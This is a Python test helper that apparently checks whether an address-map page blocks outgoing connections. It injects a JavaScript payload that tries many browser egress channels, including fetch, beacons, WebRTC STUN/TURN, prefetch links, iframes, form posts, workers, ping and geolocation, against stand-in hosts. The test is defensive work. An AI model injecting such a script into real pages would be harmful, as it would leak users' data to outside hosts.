"""The map's page, taken over by somebody's script that tries every way out a page has.

For a process of its own; prints as JSON what the script was told.
"""

from __future__ import annotations

import json
from typing import Any, Final

from tests.ui.address_map.map_desk import OSAKA, SHINJUKU, map_desk, pause

WAYS: Final = """
(function () {
  window.tried = [];
  const ip = (last) => "https://203.0.113." + last + "/";
  function attempt(name, way) {
    try {
      const going = way();
      if (going && going.then) {
        going.then(() => tried.push(name + " went"), () => tried.push(name + " did not go"));
      }
      tried.push(name);
    } catch (error) { tried.push(name + " refused"); }
  }
  function element(kind, values, parent) {
    const made = Object.assign(document.createElement(kind), values);
    (parent || document.body).appendChild(made);
    return made;
  }
  function call(servers, policy) {
    const peer = new RTCPeerConnection({iceServers: servers, iceTransportPolicy: policy});
    peer.createDataChannel("out");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  }
  attempt("fetch", () => fetch(ip(1)));
  attempt("fetch of a name", () => fetch("https://leak.example.jp/"));
  attempt("image", () => { element("img", {src: ip(2)}); });
  attempt("beacon", () => { navigator.sendBeacon(ip(3), "x"); });
  attempt("web socket", () => { new WebSocket("wss://203.0.113.4/"); });
  attempt("stun", () => call([{urls: "stun:203.0.113.5:3478"}], "all"));
  attempt("turn", () => call([{urls: "turn:203.0.113.6:3478?transport=tcp",
                               username: "a", credential: "b"}], "relay"));
  for (const rel of ["dns-prefetch", "preconnect", "prefetch", "prerender", "stylesheet", "icon",
                     "manifest", "modulepreload"]) {
    attempt(rel, () => {
      element("link", {rel: rel, href: "https://" + rel + ".example.jp/"}, document.head);
    });
  }
  attempt("script", () => { element("script", {src: ip(7)}); });
  attempt("frame", () => { element("iframe", {src: ip(8)}); });
  attempt("form", () => { element("form", {action: ip(9), method: "post"}).submit(); });
  attempt("window", () => { window.open(ip(10)); });
  attempt("transport", () => { new WebTransport(ip(11)); });
  attempt("event source", () => { new EventSource(ip(12)); });
  attempt("video", () => { element("video", {src: ip(13)}).load(); });
  attempt("style", () => {
    element("style", {textContent: "body { background: url(" + ip(14) + ") }"});
  });
  attempt("worker", () => {
    new Worker(URL.createObjectURL(new Blob(["fetch('" + ip(15) + "')"])));
  });
  attempt("ping", () => { element("a", {href: "#", ping: ip(16)}).click(); });
  attempt("place", () => { navigator.geolocation.getCurrentPosition(() => tried.push("place!")); });
  attempt("address", () => { location.href = ip(17); });
})()
"""


def main() -> dict[str, Any]:
    """Return what the script tried and was told, and whether the map still shows homes."""
    with map_desk() as desk:
        desk.show(SHINJUKU)
        desk.tell_page(WAYS)
        pause(6_000)
        tried = desk.ask_page("window.tried")
        desk.show(OSAKA)
        return {"tried": tried, "faults": desk.faults}


if __name__ == "__main__":
    print(json.dumps(main()))
